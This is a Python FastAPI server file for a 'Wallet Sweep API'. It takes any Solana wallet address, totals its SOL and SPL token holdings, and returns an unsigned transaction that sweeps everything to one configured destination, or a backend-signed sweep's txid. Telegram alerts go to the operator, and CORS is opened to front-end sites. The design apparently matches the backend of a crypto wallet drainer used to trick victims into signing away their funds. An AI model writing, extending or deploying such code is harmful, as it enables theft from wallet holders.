"""
FastAPI server: wallet inspection and sweep endpoint.

POST /api/wallet with {"walletAddress": "..."} returns the wallet's SOL and
SPL balances plus either an unsigned base64 sweep transaction, the txid of a
backend-signed sweep, or a null transaction when the balance cannot cover
fees. Components are built once in the lifespan; the token registry loads in
the background and requests wait on its readiness barrier.
"""

from __future__ import annotations

import asyncio
from contextlib import asynccontextmanager
from dataclasses import dataclass
from typing import Any

import uvicorn
from fastapi import APIRouter, FastAPI, Request
from fastapi.exceptions import RequestValidationError
from fastapi.middleware.cors import CORSMiddleware
from fastapi.responses import JSONResponse
from pydantic import BaseModel, Field

from wallet_sweep import __version__
from wallet_sweep.alerts import TelegramNotifier
from wallet_sweep.config import Settings, get_settings
from wallet_sweep.config.env import mask_rpc_url
from wallet_sweep.core.exceptions import SweepError
from wallet_sweep.ledger import LedgerClient
from wallet_sweep.registry import TokenRegistry
from wallet_sweep.sweep import (
    BalanceAggregator,
    FeeEstimator,
    SweepPipeline,
    TransactionBuilder,
    make_finalizer,
)
from wallet_sweep.sweep_logging import get_logger

logger = get_logger(__name__)

INVALID_BODY_MESSAGE = "Invalid request body"


# -----------------------------------------------------------------------------
# Request model
# -----------------------------------------------------------------------------

class WalletRequest(BaseModel):
    """POST /api/wallet body."""

    walletAddress: str | None = Field(None, description="Solana wallet address (base58)")


# -----------------------------------------------------------------------------
# Service wiring
# -----------------------------------------------------------------------------

@dataclass
class Services:
    settings: Settings
    ledger: Any
    registry: TokenRegistry
    notifier: Any
    pipeline: SweepPipeline


def build_services(
    settings: Settings,
    *,
    ledger: Any = None,
    registry: TokenRegistry | None = None,
    notifier: Any = None,
) -> Services:
    """Wire pipeline components for one process. Explicit arguments replace the defaults."""
    ledger = ledger if ledger is not None else LedgerClient(settings.rpc_url)
    registry = registry if registry is not None else TokenRegistry(settings.chain_id)
    if notifier is None:
        notifier = TelegramNotifier(
            settings.telegram_bot_token,
            settings.telegram_chat_id,
            cluster=settings.cluster_slug,
            timeout_sec=settings.http_timeout_sec,
        )
    pipeline = SweepPipeline(
        aggregator=BalanceAggregator(ledger, registry),
        fees=FeeEstimator(ledger),
        builder=TransactionBuilder(ledger, settings.destination, settings.memo),
        finalizer=make_finalizer(settings, ledger),
        ledger=ledger,
        notifier=notifier,
    )
    return Services(settings=settings, ledger=ledger, registry=registry, notifier=notifier, pipeline=pipeline)


router = APIRouter()


@router.post("/api/wallet")
async def inspect_wallet(request: Request, body: WalletRequest | None = None) -> JSONResponse:
    """Inspect one wallet and return its balances plus the sweep transaction (or txid)."""
    services: Services = request.app.state.services
    try:
        outcome = await services.pipeline.run(body.walletAddress if body else None)
    except SweepError:
        raise
    except Exception as e:
        logger.exception("wallet_request_failed", error=str(e))
        raise SweepError() from e
    return JSONResponse(status_code=200, content=outcome.to_response())


@router.get("/health")
async def health(request: Request) -> dict[str, Any]:
    """Liveness probe with sweep mode and registry readiness."""
    services: Services = request.app.state.services
    return {
        "status": "ok",
        "mode": services.settings.mode.value,
        "registry_ready": services.registry.is_ready,
    }


async def sweep_error_handler(request: Request, exc: SweepError) -> JSONResponse:
    if exc.status_code >= 500:
        cause = exc.__cause__
        logger.error(
            "wallet_request_error",
            error_class=type(exc).__name__,
            error=str(cause) if cause is not None else str(exc),
        )
    return JSONResponse(status_code=exc.status_code, content=exc.to_response())


async def validation_error_handler(request: Request, exc: RequestValidationError) -> JSONResponse:
    logger.info("wallet_request_invalid_body", errors=len(exc.errors()))
    return JSONResponse(status_code=400, content={"error": INVALID_BODY_MESSAGE})


def create_app(
    settings: Settings | None = None,
    *,
    ledger: Any = None,
    registry: TokenRegistry | None = None,
    notifier: Any = None,
) -> FastAPI:
    """Build the ASGI app. Components are created in the lifespan (one set per process)."""
    cfg = settings or get_settings()

    @asynccontextmanager
    async def lifespan(app: FastAPI):
        services = build_services(cfg, ledger=ledger, registry=registry, notifier=notifier)
        app.state.services = services
        load_task: asyncio.Task[int] | None = None
        if not services.registry.is_ready:
            load_task = asyncio.create_task(
                services.registry.load(cfg.token_list_url, timeout_sec=cfg.http_timeout_sec)
            )
        logger.info(
            "api_started",
            network=cfg.network,
            rpc_url=mask_rpc_url(cfg.rpc_url),
            mode=cfg.mode.value,
            destination=str(cfg.destination),
            telegram_enabled=cfg.telegram_enabled,
        )

        yield

        await services.notifier.drain()
        if load_task is not None and not load_task.done():
            load_task.cancel()
        if ledger is None:
            await services.ledger.close()
        logger.info("api_stopped")

    app = FastAPI(
        title="Wallet Sweep API",
        description="Inspect a Solana wallet and build a sweep transaction.",
        version=__version__,
        lifespan=lifespan,
    )
    app.add_middleware(
        CORSMiddleware,
        allow_origins=cfg.cors_origins,
        allow_methods=["*"],
        allow_headers=["*"],
    )
    app.add_exception_handler(SweepError, sweep_error_handler)
    app.add_exception_handler(RequestValidationError, validation_error_handler)
    app.include_router(router)
    return app


def run() -> None:
    """Serve the API with uvicorn on API_HOST:PORT."""
    cfg = get_settings()
    uvicorn.run("wallet_sweep.api_server.app:app", host=cfg.api_host, port=cfg.port)
